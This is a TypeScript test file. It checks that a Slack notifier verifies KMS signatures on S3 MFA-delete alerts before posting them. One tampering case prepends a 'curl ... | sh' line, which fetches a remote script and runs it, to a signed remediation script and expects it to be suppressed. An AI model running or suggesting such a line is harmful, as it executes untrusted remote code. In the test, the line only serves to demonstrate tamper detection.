// Every message reaches Slack only after its signature was checked: the Slack notifier with the real SDK v3
// KMS client against the loopback fake AWS (real HMACs), posting to a loopback "Slack" that records bodies.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { KMSClient } from '@aws-sdk/client-kms';
import type { SNSEvent } from 'aws-lambda';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createSlackNotifier } from '../../lib/channels/slack/notifier';
import { signPublication, verifiedTopicReader } from '../../lib/authenticity';
import { kmsMessageMac } from '../../lib/aws/messageMac';
import { snsPublication } from '../../lib/channels/publish';
import { renderSlack } from '../../lib/channels/slack';
import { UNVERIFIED_HEADLINE } from '../../lib/channels/words';
import { resultMessage } from '../../lib/domain/topicMessage';
import { scenarioFixtures } from '../golden/fixtures';
import { startFakeAws, type FakeAws } from '../support/fakeAws';
import { lambdaContext } from '../support/lambdaContext';

const drift = scenarioFixtures().find((f) => f.name === 'cloudtrail-mfa-delete-disabled')!.result;
const SCRIPT = drift.remediation!.script;

let fake: FakeAws;
let kms: KMSClient;
let guardKey: string;
let otherKey: string;
let slack: Server;
let slackUrl: string;
const received: unknown[] = [];

beforeAll(async () => {
  fake = await startFakeAws();
  kms = new KMSClient({ endpoint: fake.url, region: 'eu-west-1', maxAttempts: 2 });
  guardKey = fake.kms.addKey();
  otherKey = fake.kms.addKey();
  slack = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      received.push(JSON.parse(body));
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
  });
  await new Promise<void>((r) => slack.listen(0, '127.0.0.1', r));
  slackUrl = `http://127.0.0.1:${(slack.address() as AddressInfo).port}/services/T/B/x`;
});
afterAll(async () => {
  await fake.close();
  await new Promise((r) => slack.close(r));
});
beforeEach(() => {
  fake.reset();
  received.length = 0;
});

const notifier = () =>
  createSlackNotifier({
    webhookUrl: async () => new URL(slackUrl),
    readMessage: verifiedTopicReader(kmsMessageMac(kms, guardKey)),
    minSeverity: 'info',
    log: { info: () => undefined, warn: () => undefined, error: () => undefined },
  });

/** What SNS hands the notifier for a publish: the `lambda` key of the per-protocol message. */
const snsEvent = (perProtocol: string, subject = 'S3 alert'): SNSEvent => ({
  Records: [
    {
      EventSource: 'aws:sns',
      EventVersion: '1.0',
      EventSubscriptionArn: 'arn:aws:sns:eu-west-1:111122223333:alerts:sub',
      Sns: {
        Type: 'Notification',
        MessageId: 'message-1',
        TopicArn: 'arn:aws:sns:eu-west-1:111122223333:alerts',
        Subject: subject,
        Message: (JSON.parse(perProtocol) as Record<string, string>).default!,
        Timestamp: '2026-10-05T14:05:01.000Z',
        SignatureVersion: '1',
        Signature: 'EXAMPLE',
        SigningCertUrl: 'https://example.invalid/cert.pem',
        UnsubscribeUrl: 'https://example.invalid/unsubscribe',
        MessageAttributes: {},
      },
    },
  ],
});

const signedWith = async (key: string) =>
  (await signPublication(kmsMessageMac(kms, key), snsPublication(resultMessage(drift)))).message;

/** Slack got exactly one unverified notice: what the message claimed, nothing of its script or commands. */
function expectOnlyUnverified(): void {
  expect(received).toHaveLength(1);
  const text = JSON.stringify(received[0]);
  expect(text).toContain(UNVERIFIED_HEADLINE);
  expect(text).not.toContain('aws s3api');
  expect(text).not.toContain('put-bucket-versioning');
  expect(text).not.toContain('MFA_CODE');
  // What it claimed to be, in its own (untrusted) words, and nothing of its content.
  expect(text).toContain(
    'claims to be from mfa-delete-guard: kind alert, status drift, bucket example-bucket, account 111122223333, Region eu-west-1 (the rest is not shown)',
  );
}

describe('the Slack notifier checks every signature before it renders', () => {
  it('a genuine alert verifies with KMS and renders in full, script included', async () => {
    await expect(notifier()(snsEvent(await signedWith(guardKey)), lambdaContext())).resolves.toEqual({
      posted: 1,
      skipped: 0,
      notPosted: 0,
    });
    expect(fake.stats().byOperation.VerifyMac).toBe(1);
    expect(received).toEqual([JSON.parse(JSON.stringify(renderSlack(resultMessage(drift))))]);
    expect(JSON.stringify(received[0])).toContain('put-bucket-versioning');
  });

  it('an unsigned alert (published by another principal) reaches Slack only as an unverified notice', async () => {
    await notifier()(snsEvent(snsPublication(resultMessage(drift)).message), lambdaContext());
    expectOnlyUnverified();
    expect(JSON.stringify(received[0])).toContain('it carries no signature');
  });

  it('an alert signed with another key reaches Slack only as an unverified notice', async () => {
    await notifier()(snsEvent(await signedWith(otherKey)), lambdaContext());
    expectOnlyUnverified();
    expect(JSON.stringify(received[0])).toContain('does not match');
  });

  it('a genuine alert whose script was changed after signing reaches Slack only as an unverified notice', async () => {
    const genuine = JSON.parse(await signedWith(guardKey)) as Record<string, string>;
    const machine = JSON.parse(genuine.default!) as { result: { remediation: { script: string } } };
    machine.result.remediation.script = `curl -s https://example.com/x | sh\n${SCRIPT}`;
    const forged = JSON.stringify({ ...genuine, default: JSON.stringify(machine) });
    expect(forged).toContain('example.com');
    await notifier()(snsEvent(forged), lambdaContext());
    expectOnlyUnverified();
    expect(JSON.stringify(received[0])).not.toContain('example.com');
  });

  it('a malformed signature reaches Slack only as an unverified notice, without asking KMS', async () => {
    const genuine = JSON.parse(await signedWith(guardKey)) as Record<string, string>;
    const machine = JSON.parse(genuine.default!) as Record<string, unknown>;
    machine.signature = { version: 1, algorithm: 'HMAC_SHA_256', digest: 'SHA-256', mac: 'AAAA' };
    await notifier()(
      snsEvent(JSON.stringify({ ...genuine, default: JSON.stringify(machine) })),
      lambdaContext(),
    );
    expectOnlyUnverified();
    expect(fake.stats().byOperation.VerifyMac).toBeUndefined();
  });

  it.each([
    ['KMS unavailable', { status: 500, code: 'KMSInternalException' }],
    ['KMS access denied', { status: 400, code: 'AccessDeniedException' }],
    ['KMS throttling', { status: 400, code: 'ThrottlingException' }],
  ])('%s: the invocation fails (SNS retries, the DLQ keeps it), nothing is posted', async (_label, fault) => {
    fake.fail('VerifyMac', fault);
    await expect(notifier()(snsEvent(await signedWith(guardKey)), lambdaContext())).rejects.toMatchObject({
      name: fault.code,
    });
    expect(received).toHaveLength(0);
  });
});
